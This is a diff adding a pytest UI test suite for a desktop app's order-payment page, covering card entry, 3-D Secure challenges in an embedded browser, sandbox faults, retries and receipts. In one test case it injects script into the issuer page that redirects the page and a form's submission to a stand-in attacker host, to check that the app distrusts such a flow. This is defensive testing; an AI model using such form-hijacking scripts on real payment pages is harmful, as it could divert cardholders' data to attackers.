@@ -1,0 +1,441 @@
+"""Paying an order on the page: the card, the embedded browser, the sandbox's issuer, the result."""
+
+from __future__ import annotations
+
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field, replace
+from datetime import timedelta
+from decimal import Decimal
+from typing import TYPE_CHECKING, Any, Final, TypeAlias
+
+import pytest
+from PySide6.QtCore import Qt
+from shiboken6 import delete
+
+from desktop_app.domain.gateway.card_payments import CredentialPayment, Initiator
+from desktop_app.domain.gateway.cards import Secret
+from desktop_app.domain.gateway.merchant_login import Login
+from desktop_app.domain.gateway.merchant_settings import MerchantSettings, Permission
+from desktop_app.domain.gateway.order_book import BookedOrder, OrderPhase
+from desktop_app.domain.gateway.stored_credentials import CredentialType
+from desktop_app.domain.profiles.profile import Environment, Profile
+from desktop_app.domain.values.money import Amount
+from desktop_app.services.gateway.abilities import abilities_of
+from desktop_app.services.gateway.payment_attempts import AttemptPhase
+from desktop_app.ui.browser.flows import FlowEnd
+from desktop_app.ui.gateway.three_ds.order_to_pay import OrderToPay
+from desktop_app.ui.gateway.three_ds.pay_order_page import PayOrderPage
+from desktop_app.ui.gateway.three_ds.pay_panel import PayAction, PayStep
+from tests.api.gateway.merchant import (
+    ATTEMPTED,
+    CHALLENGED,
+    EMAIL,
+    FRICTIONLESS,
+    OLD_3DS,
+    PAID,
+    REFUSED,
+)
+from tests.api.gateway.scenarios import CLIENT
+from tests.services.gateway.conftest import PAY, Counter
+from tests.services.gateway.conftest import opened as opened_counter
+from tests.support.contexts import RecordingNavigator, context_of, workspace_of
+from tests.support.fakes import FixedClock
+from tests.support.windowed import ending
+from tests.ui.gateway.issuer import confirm_at_issuer, script, shows
+from tests.ui.hands import click, press, settle, write
+from tests.ui.test_accessibility import nameless
+
+if TYPE_CHECKING:
+    from collections.abc import AsyncIterator, Callable, Coroutine
+    from pathlib import Path
+
+    from tests.support.loops import Run
+    from tests.support.sandbox import SandboxProcess
+
+pytestmark = pytest.mark.xdist_group("browser")
+
+SETTINGS: Final = MerchantSettings(
+    permissions=tuple(one for one in Permission if one is not Permission.EXTERNAL_THREE_DS)
+)
+
+
+class FakeOrders:
+    """A book of a few orders."""
+
+    def __init__(self) -> None:
+        self.book: dict[str, BookedOrder] = {}
+
+    async def get(self, book_id: str) -> BookedOrder | None:
+        return self.book.get(book_id)
+
+    async def refresh(self, book_ids: list[str]) -> None:
+        """Nothing is asked."""
+
+    async def by_order_id(self, order_id: str) -> BookedOrder | None:
+        return next((one for one in self.book.values() if one.order_id == order_id), None)
+
+
+@dataclass
+class Cashier:
+    """Somebody at the page."""
+
+    page: PayOrderPage
+    counter: Counter
+    orders: FakeOrders
+    navigator: RecordingNavigator
+    opened: list[str] = field(default_factory=list)
+
+    async def take_up(self, **facts: Any) -> str:
+        """Go to the page with an order that is to be paid."""
+        order_id = await self.counter.order()
+        booked = BookedOrder(
+            id=f"book-{order_id}",
+            number="7-1",
+            order_id=order_id,
+            phase=OrderPhase.REGISTERED,
+            amount=Amount(Decimal("12.50"), "BYN"),
+            description="Coffee",
+            client_id=CLIENT,
+            created_at=self.counter.rig.world.now(),
+        )
+        self.orders.book[booked.id] = booked = replace(booked, **facts)
+        self.page.pay(booked.id)
+        await settle(lambda: self.page.step is not PayStep.EMPTY)
+        return order_id
+
+    def enter(self, number: str, *, email: str = EMAIL) -> None:
+        """Type a card."""
+        card = self.page.form.card
+        write(card.number.control, number)
+        write(card.expiry.control, "1234")
+        write(card.code.control, "123")
+        write(card.holder.control, "ANNA KAVALENKA")
+        self.page.form.contact.put("email", email)
+
+    async def pay(self, number: str, **options: Any) -> None:
+        """Type a card and press the button."""
+        self.enter(number, **options)
+        button = self.button(PayAction.PAY)
+        await settle(lambda: button.isVisible() and button.isEnabled())
+        click(button)
+
+    def button(self, action: PayAction) -> Any:
+        """A button of the column."""
+        return self.page.panel.buttons[action]
+
+    async def says(self, heading: str) -> None:
+        """Wait for a heading of the result."""
+        await settle(
+            lambda: self.page.step is PayStep.RESULT and self.page.panel.heading.text() == heading,
+            seconds=40,
+        )
+
+    async def script(self, source: str) -> Any:
+        """What a script on the issuer's page answers."""
+        return await script(self.page.browser, source)
+
+    async def at_issuer(self) -> None:
+        """Wait for the page that asks for the code."""
+        await shows(self.page.browser, "code")
+
+    async def asked_again(self) -> None:
+        """Wait until the issuer says that the code was wrong."""
+        await shows(self.page.browser, "wrong")
+
+    async def confirm(self, code: str) -> None:
+        """Enter a code at the issuer."""
+        await confirm_at_issuer(self.page.browser, code)
+
+
+Story: TypeAlias = "Callable[[Cashier], Coroutine[Any, Any, None]]"
+
+
+@pytest.fixture
+def at_page(run_qt: Run, tmp_path: Path, sandbox: SandboxProcess) -> Any:
+    """Run a story of somebody who pays an order on the page, by the profile's settings."""
+
+    @asynccontextmanager
+    async def at_work(settings: MerchantSettings) -> AsyncIterator[Cashier]:
+        async with opened_counter(sandbox, tmp_path / "store.db", nap_s=0.1) as counter:
+            profile = Profile(
+                id="p", name="ООО «Белые журавли»", short_name="БЖ", colour="#2F6FDE",
+                environment=Environment.TEST, documents_url="", merchant=settings,
+                gateway_url=sandbox.addresses.gateway_url,
+            )  # fmt: skip
+            orders, navigator = FakeOrders(), RecordingNavigator()
+            workspace = workspace_of(
+                profile=profile,
+                clock=counter.rig.world,
+                bus=counter.rig.bus,
+                outbox=counter.rig.outbox,
+                card_payments=counter.payments,
+                orders=orders,
+                gateway_abilities=abilities_of(profile, Login("shop", Secret("x"))),
+            )
+            context = context_of(workspace, navigator=navigator, click_guard_ms=0)
+            page = PayOrderPage(context)
+            page.resize(1100, 700)
+            page.show()
+            try:
+                yield Cashier(page, counter, orders, navigator)
+            finally:
+                delete(page)
+                delete(context.registry)
+
+    async def told(story: Story, settings: MerchantSettings) -> None:
+        async with at_work(settings) as cashier:
+            await story(cashier)
+
+    return lambda story, settings=SETTINGS: run_qt(ending(told(story, settings)))
+
+
+@pytest.mark.parametrize(
+    ("number", "heading"),
+    [(PAID, "Paid"), (FRICTIONLESS, "Paid"), (ATTEMPTED, "Paid"), (REFUSED, "Declined")],
+)
+def test_an_order_is_paid_without_a_question(at_page: Any, number: str, heading: str) -> None:
+    async def story(cashier: Cashier) -> None:
+        order_id = await cashier.take_up()
+        await cashier.pay(number)
+        await cashier.says(heading)
+        assert cashier.page.form.card.is_blank
+        paid = (await cashier.counter.status(order_id)).is_paid
+        assert paid is (heading == "Paid")
+        sent = cashier.counter.sandbox.requests()
+        names = {name for one in sent if one["operation"] == PAY for name in one["parameters"]}
+        assert "clientBrowserInfo" in names
+        if heading == "Declined":
+            assert cashier.page.panel.reason.text()
+            click(cashier.button(PayAction.AGAIN))
+            await cashier.pay(PAID)
+            await cashier.says("Paid")
+        operations = cashier.counter.sandbox.operations()
+        assert ("3ds" in operations) is (number != PAID), operations
+
+    at_page(story)
+
+
+@pytest.mark.parametrize("number", [CHALLENGED, OLD_3DS])
+def test_the_cardholder_confirms_at_the_issuer(at_page: Any, number: str) -> None:
+    async def story(cashier: Cashier) -> None:
+        order_id = await cashier.take_up()
+        await cashier.pay(number)
+        await cashier.confirm("111111")
+        await cashier.asked_again()
+        assert cashier.page.panel.countdown.isVisible()
+        assert cashier.page.step is PayStep.BANK
+        await cashier.confirm("123456")
+        await cashier.says("Paid")
+        assert (await cashier.counter.status(order_id)).is_paid
+        result = cashier.page.browser.result
+        assert result is not None
+        assert result.end in {FlowEnd.RETURNED, FlowEnd.FINISHED}
+
+    at_page(story)
+
+
+def test_the_receipt_of_what_was_paid_is_offered(at_page: Any) -> None:
+    async def story(cashier: Cashier) -> None:
+        order_id = await cashier.take_up()
+        await cashier.pay(REFUSED)
+        assert cashier.page.panel.hasFocus(), "the keyboard stays on the page, and cancels nothing"
+        await cashier.says("Declined")
+        assert not cashier.button(PayAction.RECEIPT).isVisible()
+        click(cashier.button(PayAction.AGAIN))
+        await cashier.pay(PAID)
+        await cashier.says("Paid")
+        paid = replace(cashier.orders.book[f"book-{order_id}"], phase=OrderPhase.PAID)
+        cashier.orders.book[paid.id] = paid
+        click(cashier.button(PayAction.RECEIPT))
+        await settle(lambda: bool(cashier.navigator.print_forms))
+        cashier.page.pay(paid.id)
+        await settle(lambda: cashier.page.view is None)
+        assert cashier.button(PayAction.RECEIPT).isVisible(), "also of an order paid before"
+
+    at_page(story)
+
+
+def test_a_challenge_that_failed_is_declined_and_paid_by_another_card(at_page: Any) -> None:
+    async def story(cashier: Cashier) -> None:
+        await cashier.take_up()
+        await cashier.pay(CHALLENGED)
+        await cashier.confirm("000000")
+        await cashier.says("Declined")
+        click(cashier.button(PayAction.AGAIN))
+        await cashier.pay(PAID)
+        await cashier.says("Paid")
+
+    at_page(story)
+
+
+def test_a_challenge_that_was_cancelled_is_opened_again(at_page: Any) -> None:
+    async def story(cashier: Cashier) -> None:
+        await cashier.take_up()
+        await cashier.pay(CHALLENGED)
+        await cashier.at_issuer()
+        click(cashier.button(PayAction.CANCEL))
+        await cashier.says("Checking the status …")
+        again = cashier.button(PayAction.CONTINUE)
+        await settle(again.isVisible)
+        assert cashier.button(PayAction.AGAIN).isVisible()
+        click(again)
+        await cashier.confirm("123456")
+        await cashier.says("Paid")
+        assert cashier.counter.calls() == 2
+
+    at_page(story)
+
+
+@pytest.mark.parametrize("why", ["crash", "lost", "elsewhere", "time"])
+def test_however_the_page_of_the_issuer_ends_the_status_speaks(at_page: Any, why: str) -> None:
+    async def story(cashier: Cashier) -> None:
+        await cashier.take_up()
+        if why == "lost":
+            cashier.counter.sandbox.fault("acs", "drop-before-commit", service="pages", times=9)
+        await cashier.pay(OLD_3DS)
+        if why == "crash":
+            await cashier.at_issuer()
+            session = cashier.page.browser.session
+            assert session is not None
+            session.end(FlowEnd.CRASHED)
+        elif why == "time":
+            await cashier.at_issuer()
+            session = cashier.page.browser.session
+            assert session is not None
+            assert session._deadline.isActive()
+            assert session._deadline.interval() == 15 * 60 * 1000
+            session.end(FlowEnd.TIMED_OUT)
+        elif why == "elsewhere":
+            await cashier.at_issuer()
+            await cashier.script("location.href = 'http://evil.example/'; 1")
+            await settle(lambda: bool(cashier.page.browser.notice.text()))
+            await cashier.script("document.forms[0].action = 'http://evil.example/'; 1")
+            await cashier.script("document.forms[0].submit(); 1")
+        await cashier.says("Checking the status …")
+        view = cashier.page.view
+        assert view is not None
+        assert view.phase is AttemptPhase.CHECKING
+        await settle(lambda: cashier.page.view is not None and cashier.page.view.may_continue)
+        offered = cashier.button(PayAction.CONTINUE).isVisible()
+        assert offered is (why != "elsewhere")
+        assert cashier.counter.calls() == 1
+
+    at_page(story)
+
+
+@pytest.mark.parametrize("number", [FRICTIONLESS, CHALLENGED])
+def test_a_stored_card_is_paid_with_from_another_page(at_page: Any, number: str) -> None:
+    async def story(cashier: Cashier) -> None:
+        stored = await cashier.counter.shop.stored(CredentialType.COMMON, number)
+        order_id = await cashier.counter.order()
+        code = Secret("123")
+        payment = CredentialPayment(
+            order_id=order_id, credential_id=stored, email=EMAIL, with_code=True,
+            initiator=Initiator.SUBSEQUENT_CUSTOMER,
+        )  # fmt: skip
+        cashier.page.begin(payment, code)
+        late = Secret("456")
+        cashier.page.begin(payment, late)
+        assert late.is_empty
+        if number == CHALLENGED:
+            await cashier.confirm("123456")
+        await cashier.says("Paid")
+        assert code.is_empty
+        assert cashier.page.panel.amount.text()
+
+    at_page(story)
+
+
+def test_what_is_wrong_is_said_before_anything_is_sent(at_page: Any) -> None:
+    async def story(cashier: Cashier) -> None:
+        await cashier.take_up()
+        form = cashier.page.form
+        form.store.put("storing", Initiator.INITIAL_RECURRENT.value)
+        form.store.changed.emit("storing")
+        await settle(form.store.fields["recurringExpiry"].isVisible)
+        form.more.put("ip", "1" * 40)
+        await cashier.pay(PAID)
+        assert form.fold.is_open
+        assert cashier.page.step is PayStep.CARD
+        assert {"recurringFrequency", "recurringExpiry", "ip"} <= set(form.notes().wrong)
+        form.more.put("ip", "")
+        form.store.put("recurringFrequency", "28")
+        form.store.put("recurringExpiry", "31.12.2034")
+        click(cashier.button(PayAction.PAY))
+        await cashier.says("Paid")
+        outcome = cashier.page.view and cashier.page.view.outcome
+        assert outcome
+        assert outcome.credential_id
+        assert cashier.counter.calls() == 1
+
+    at_page(story)
+
+
+def test_results_of_the_shops_own_3ds_server_are_typed_and_sent(at_page: Any) -> None:
+    async def story(cashier: Cashier) -> None:
+        order_id = await cashier.take_up()
+        form = cashier.page.form
+        typed = {
+            "eci": "05",
+            "xid": "MDAwMDAwMDAwMDAwMDAwMDAwMDE=",
+            "threeDSProtocolVersion": "2.2.0",
+        }
+        for name, text in typed.items():
+            form.three_ds.put(name, text)
+        await cashier.pay(CHALLENGED)
+        assert "cavv" in form.notes().wrong, "one half proves nothing"
+        assert cashier.page.step is PayStep.CARD
+        form.three_ds.put("cavv", "AAABBWFlmQAAAABjRWWZEEFgFz8=")
+        click(cashier.button(PayAction.PAY))
+        await cashier.says("Paid")
+        status = await cashier.counter.status(order_id)
+        assert (status.is_paid, status.card.eci.lstrip("0")) == (True, "5")
+        assert cashier.counter.calls() == 1
+
+    at_page(story, MerchantSettings(permissions=(Permission.EXTERNAL_THREE_DS,)))
+
+
+def test_a_clock_that_is_off_leaves_the_page_of_the_issuer_its_time() -> None:
+    now = FixedClock().now()
+    for days, left in ((-3, 900.0), (3, 900.0), (0, 600.0)):
+        until = now + timedelta(days=days) + (timedelta(seconds=600) if not days else timedelta())
+        booked = BookedOrder(id="b", number="1", created_at=now, expires_at=until)
+        order = OrderToPay(order_id="o", booked=booked, registered=None)
+        assert order.seconds_left(FixedClock(), 900.0) == left
+
+
+def test_an_order_that_is_paid_is_not_taken_up_and_escape_leaves(at_page: Any) -> None:
+    async def story(cashier: Cashier) -> None:
+        await cashier.take_up(phase=OrderPhase.PAID)
+        assert cashier.page.panel.heading.text() == "The order is paid already"
+        assert not cashier.button(PayAction.PAY).isVisible()
+        press(cashier.page, Qt.Key.Key_Escape)
+        assert cashier.navigator.went == ["orders"]
+        await cashier.take_up()
+        cashier.enter(PAID)
+        press(cashier.page, Qt.Key.Key_Escape)
+        assert cashier.page.form.card.is_blank
+
+    at_page(story)
+
+
+def test_a_browser_that_dies_while_it_is_looked_at_does_not_end_the_payment(at_page: Any) -> None:
+    async def story(cashier: Cashier) -> None:
+        await cashier.take_up()
+        cashier.counter.sandbox.fault("3ds", "hang", service="pages", times=3)
+        await cashier.pay(FRICTIONLESS)
+        await settle(
+            lambda: (
+                cashier.page.view is not None
+                and cashier.page.view.phase is AttemptPhase.BROWSER_CHECK
+                and cashier.page.browser.session is not None
+            )
+        )
+        assert nameless(cashier.page) == []
+        session = cashier.page.browser.session
+        assert session is not None
+        session.end(FlowEnd.CRASHED)
+        await cashier.says("Paid")
+        assert cashier.counter.calls() == 2
+
+    at_page(story)
